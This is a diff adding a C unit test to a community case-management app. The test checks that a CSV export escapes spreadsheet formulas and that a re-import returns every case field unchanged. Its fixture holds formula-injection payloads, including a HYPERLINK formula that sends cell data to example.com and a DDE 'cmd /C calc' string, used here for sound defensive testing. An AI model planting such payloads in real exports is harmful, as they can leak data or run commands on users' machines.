@@ -7,10 +7,13 @@
 
 #include "linli-case-bulk.h"
 #include "linli-case-csv.h"
+#include "linli-demo.h"
 #include "linli-record-sql.h"
 #include "linli-records.h"
+#include "linli-safe-file.h"
 #include "linli-store.h"
 #include "linli-store-private.h"
+#include "test-util.h"
 
 /* ------------------------------------------------------------------------ */
 /* Fixture: a community of two grids, three workers, two buildings and a
@@ -1463,6 +1466,224 @@ test_import_same_as_insert (Fixture       *f,
   fixture_tear_down (g, NULL);
 }
 
+/* ------------------------------------------------------------------------ */
+/* Moving a community to another computer                                  */
+
+static gboolean
+write_full_export_cb (GOutputStream  *out,
+                      gpointer        user_data,
+                      GCancellable   *cancellable,
+                      GError        **error)
+{
+  LinliStore *store = user_data;
+  g_autoptr(GListModel) cases = linli_store_list (store, LINLI_TYPE_CASE);
+
+  return linli_case_csv_export (store, cases, FALSE, out, cancellable, error);
+}
+
+static void
+delete_all (LinliStore *store,
+            GType       type)
+{
+  g_autoptr(GListModel) list = linli_store_list (store, type);
+  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autoptr(GError) error = NULL;
+
+  for (guint i = 0; i < g_list_model_get_n_items (list); i++)
+    g_ptr_array_add (records, g_list_model_get_item (list, i));
+  for (guint i = 0; i < records->len; i++)
+    {
+      g_assert_true (linli_store_delete (store, g_ptr_array_index (records, i), &error));
+      g_assert_no_error (error);
+    }
+  g_assert_cmpuint (linli_store_count (store, type), ==, 0);
+}
+
+/* The demo community with texts a spreadsheet would run, as residents type
+ * them: the export neutralises them and the import gives them back. */
+static LinliStore *
+formula_demo (TestDatabase *db)
+{
+  g_autoptr(GDateTime) today = test_now ();
+  g_autoptr(GListModel) cases = NULL;
+  g_autoptr(GError) error = NULL;
+  const char *texts[][2] = {
+    { "title", "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")" },
+    { "description", "+cmd|' /C calc'!A0" },
+    { "address", "@SUM(1+1)" },
+    { "resolution", "-2+3" },
+    { "revisit_notes", "'=不是公式" },
+  };
+
+  test_database_open (db, "linli-case-csv-demo");
+  g_assert_true (linli_demo_populate (db->store, today, &error));
+  g_assert_no_error (error);
+  cases = linli_store_list (db->store, LINLI_TYPE_CASE);
+  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
+    {
+      g_autoptr(LinliRecord) record = g_list_model_get_item (cases, i * 7);
+
+      linli_record_set_text (record, texts[i][0], texts[i][1]);
+      g_assert_true (linli_store_update (db->store, record, &error));
+      g_assert_no_error (error);
+    }
+  {
+    g_autoptr(LinliRecord) record = g_list_model_get_item (cases, 3);
+    g_autoptr(LinliRecord) reporter = linli_store_get (db->store, LINLI_TYPE_RESIDENT,
+                                                       linli_record_get_int (record, "reporter_id"), NULL);
+
+    g_assert_nonnull (reporter);
+    linli_record_set_text (reporter, "name", "=王芳");
+    g_assert_true (linli_store_update (db->store, reporter, &error));
+    g_assert_no_error (error);
+  }
+  return db->store;
+}
+
+static char *
+reporter_of (LinliStore  *store,
+             LinliRecord *record)
+{
+  gint64 id = linli_record_get_int (record, "reporter_id");
+  g_autoptr(LinliRecord) resident = id != 0 ? linli_store_get (store, LINLI_TYPE_RESIDENT, id, NULL) : NULL;
+
+  if (resident == NULL)
+    return NULL;
+  return g_strdup_printf ("%s/%s", linli_record_get_text (resident, "name"),
+                          linli_record_get_text (resident, "phone"));
+}
+
+static char *
+value_text (const GValue *value)
+{
+  if (G_VALUE_HOLDS (value, G_TYPE_DATE_TIME))
+    {
+      GDateTime *time = g_value_get_boxed (value);
+      return time != NULL ? g_date_time_format_iso8601 (time) : NULL;
+    }
+  return g_strdup_value_contents (value);
+}
+
+static char *
+number_of (LinliStore *store,
+           gint64      id)
+{
+  g_autoptr(LinliRecord) record = id != 0 ? linli_store_get (store, LINLI_TYPE_CASE, id, NULL) : NULL;
+
+  return record != NULL ? g_strdup (linli_record_get_text (record, "number")) : NULL;
+}
+
+/* The whole demo community's cases, exported with their reporters and read
+ * into a community with the same grids, workers and buildings and no cases,
+ * come back the same, field by field.
+ *
+ * What a file of cases cannot carry, and so does not come back: the
+ * 民情日记 timeline (an imported case has the one "registered" entry), the
+ * seconds of times (a file has minutes; the demo's are whole minutes), a
+ * resident's own address, and a case's own point on the map (a file has no
+ * coordinates: the import puts a case at its building's point, or at none
+ * without a building). Case ids are new;
+ * reporters, duplicates, grids, workers and buildings are compared by what
+ * they are, not by id. */
+static void
+test_full_export_demo (void)
+{
+  TestDatabase from = { 0 }, to = { 0 };
+  g_autoptr(GFile) file = NULL;
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(LinliCsvTable) table = NULL;
+  g_autofree LinliCaseField *mapping = NULL;
+  g_autoptr(GPtrArray) row_errors = NULL;
+  g_autoptr(GListModel) originals = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GDateTime) today = test_now ();
+  g_autofree char *path = NULL;
+  guint n_columns, n = 0, n_compared = 0;
+  const LinliColumn *columns;
+
+  formula_demo (&from);
+  originals = linli_store_list (from.store, LINLI_TYPE_CASE);
+  g_assert_cmpuint (g_list_model_get_n_items (originals), >, 100);
+
+  path = g_build_filename (from.dir, "cases-personal.csv", NULL);
+  file = g_file_new_for_path (path);
+  g_assert_true (linli_safe_file_write (file, LINLI_SAFE_FILE_PRIVATE, write_full_export_cb, from.store,
+                                        NULL, &error));
+  g_assert_no_error (error);
+  bytes = g_file_load_bytes (file, NULL, NULL, &error);
+  g_assert_no_error (error);
+  g_remove (path);
+
+  /* The formulas are not run by a spreadsheet. */
+  {
+    g_autofree char *text = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
+    g_assert_nonnull (strstr (text, ",\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"点我\"\")\","));
+    g_assert_nonnull (strstr (text, ",'+cmd|' /C calc'!A0,"));
+    g_assert_nonnull (strstr (text, ",'@SUM(1+1),"));
+    g_assert_nonnull (strstr (text, ",'-2+3,"));
+    g_assert_nonnull (strstr (text, ",''=不是公式,"));
+    g_assert_nonnull (strstr (text, ",'=王芳,"));
+    g_assert_null (strstr (text, ",=王芳,"));
+  }
+
+  /* Another computer's community: the same grids, workers and buildings. */
+  test_database_open (&to, "linli-case-csv-demo-to");
+  g_assert_true (linli_demo_populate (to.store, today, &error));
+  g_assert_no_error (error);
+  delete_all (to.store, LINLI_TYPE_CASE);
+  delete_all (to.store, LINLI_TYPE_RESIDENT);
+
+  table = linli_csv_read (bytes, &error);
+  g_assert_no_error (error);
+  mapping = linli_case_csv_guess_mapping (table);
+  g_assert_true (linli_case_csv_import (to.store, table, mapping, &row_errors, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (row_errors->len, ==, 0);
+  g_assert_cmpuint (n, ==, g_list_model_get_n_items (originals));
+  g_assert_cmpuint (linli_store_count (to.store, LINLI_TYPE_CASE), ==, n);
+
+  columns = linli_record_class_get_columns (g_type_class_peek (LINLI_TYPE_CASE), &n_columns);
+  for (guint i = 0; i < g_list_model_get_n_items (originals); i++)
+    {
+      g_autoptr(LinliRecord) original = g_list_model_get_item (originals, i);
+      const char *number = linli_record_get_text (original, "number");
+      g_autoptr(LinliRecord) imported = case_by_number (to.store, number);
+
+      g_assert_nonnull (imported);
+      for (guint c = 0; c < n_columns; c++)
+        {
+          const char *name = columns[c].name;
+          g_autofree char *a = NULL;
+          g_autofree char *b = NULL;
+
+          if (g_str_equal (name, "reporter_id"))
+            {
+              a = reporter_of (from.store, original);
+              b = reporter_of (to.store, imported);
+            }
+          else if (g_str_equal (name, "duplicate_of"))
+            {
+              a = number_of (from.store, linli_record_get_int (original, name));
+              b = number_of (to.store, linli_record_get_int (imported, name));
+            }
+          else if (g_str_equal (name, "lat") || g_str_equal (name, "lon"))
+            continue;   /* not in a file: see above */
+          else
+            {
+              a = value_text (linli_record_peek_value (original, c));
+              b = value_text (linli_record_peek_value (imported, c));
+            }
+          if (g_strcmp0 (a, b) != 0)
+            g_error ("%s: %s: exported %s, imported %s", number, name, a, b);
+          n_compared++;
+        }
+    }
+  g_assert_cmpuint (n_compared, ==, n * (n_columns - 2));
+
+  test_database_close (&from);
+  test_database_close (&to);
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -1493,6 +1714,8 @@ main (int   argc,
   ADD ("/case-csv/bulk-insert/times", test_bulk_times);
 
 #undef ADD
+
+  g_test_add_func ("/case-csv/full-export/demo", test_full_export_demo);
 
   return g_test_run ();
 }
